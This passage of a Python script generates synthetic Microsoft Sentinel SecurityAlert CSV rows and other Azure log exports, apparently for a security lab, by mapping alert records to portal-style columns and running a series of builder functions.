    "TenantId", "TimeGenerated [UTC]", "DisplayName", "AlertName", "AlertSeverity", "Description", "ProviderName",
    "VendorName", "VendorOriginalId", "SystemAlertId", "ResourceId", "SourceComputerId", "AlertType",
    "ConfidenceLevel", "ConfidenceScore", "IsIncident", "StartTime [UTC]", "EndTime [UTC]",
    "ProcessingEndTime [UTC]", "RemediationSteps", "ExtendedProperties", "Entities", "SourceSystem",
    "WorkspaceSubscriptionId", "WorkspaceResourceGroup", "ExtendedLinks", "ProductName", "ProductComponentName",
    "AlertLink", "Status", "CompromisedEntity", "Tactics", "Techniques", "SubTechniques", "Type",
]


def sentinel_alert(a, n):
    extended = dict(a["extended"])
    extended.update({"Alert Id": a["systemAlertId"],
                     "EffectiveAzureResourceId": a["resourceId"], "EffectiveSubscriptionId": SUB,
                     "ProductComponentName": a["component"]})
    gen_ms = 311 + n
    return {
        "TenantId": WORKSPACE_ID, "TimeGenerated [UTC]": portal_time(a["generated"][0], gen_ms),
        "DisplayName": a["display"], "AlertName": a["display"], "AlertSeverity": a["severity"],
        "Description": a["description"], "ProviderName": "Azure Security Center", "VendorName": "Microsoft",
        "VendorOriginalId": a["systemAlertId"], "SystemAlertId": gid(f"5e{n}"), "ResourceId": a["resourceId"],
        "SourceComputerId": "", "AlertType": a["alertType"], "ConfidenceLevel": "", "ConfidenceScore": "",
        "IsIncident": "FALSE", "StartTime [UTC]": portal_time(a["start"][0], 0),
        "EndTime [UTC]": portal_time(a["end"][0], 0), "ProcessingEndTime [UTC]": portal_time(a["generated"][0], 442),
        "RemediationSteps": pretty_crlf(a["remediation"]), "ExtendedProperties": compact(extended),
        "Entities": compact(pascal_entities(a)), "SourceSystem": "Detection", "WorkspaceSubscriptionId": SUB,
        "WorkspaceResourceGroup": "rg-lab-sentinel", "ExtendedLinks": "",
        "ProductName": "Azure Security Center", "ProductComponentName": a["component"], "AlertLink": alert_uri(a),
        "Status": "New", "CompromisedEntity": a["compromised"], "Tactics": a["intent"].replace(",", ", "),
        "Techniques": compact(a["techniques"]), "SubTechniques": compact(a["subTechniques"]),
        "Type": "SecurityAlert",
    }


def build_defender_sentinel():
    rows = [sentinel_alert(ALERTS[k], i + 1) for i, k in enumerate(("rbac", "kvip", "saip"))]
    write_portal_csv("defender-alerts/sentinel-securityalert.csv", SECURITY_ALERT_HEADER, rows)


def main():
    build_signins()
    build_noninteractive()
    build_serviceprincipal()
    build_risk()
    build_audit()
    build_activity_diag()
    build_activity_csv(build_activity_arm())
    build_defender_rest()
    build_defender_export()
    build_defender_sentinel()


if __name__ == "__main__":
    main()
